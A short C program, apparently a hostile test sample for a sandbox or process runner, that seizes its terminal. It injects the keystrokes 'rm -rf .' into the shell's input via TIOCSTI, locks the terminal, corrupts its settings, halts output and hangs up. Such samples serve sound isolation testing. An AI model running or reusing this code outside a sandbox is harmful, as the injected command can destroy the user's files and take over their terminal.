/* Takes the terminal: types into it, locks it, makes it another. */
#define _GNU_SOURCE
#include <sys/ioctl.h>
#include <termios.h>

#include "hostile.h"

int main(void)
{
    struct termios t;
    struct winsize size = {65535, 65535, 0, 0};
    announces(listens());
    for (int fd = 0; fd < 3; fd++) {
        ioctl(fd, TIOCSCTTY, 1);
        ioctl(fd, TIOCEXCL);
        for (const char *at = "rm -rf .\nlistening on 127.0.0.1:1\n"; *at; at++)
            ioctl(fd, TIOCSTI, at);
        ioctl(fd, TIOCSWINSZ, &size);
        if (tcgetattr(fd, &t) == 0) {
            t.c_lflag |= ECHO | TOSTOP;
            t.c_iflag |= IXON | IXOFF;
            tcsetattr(fd, TCSANOW, &t);
            tcflow(fd, TCOOFF);
        }
    }
    vhangup();
    hangs();
}
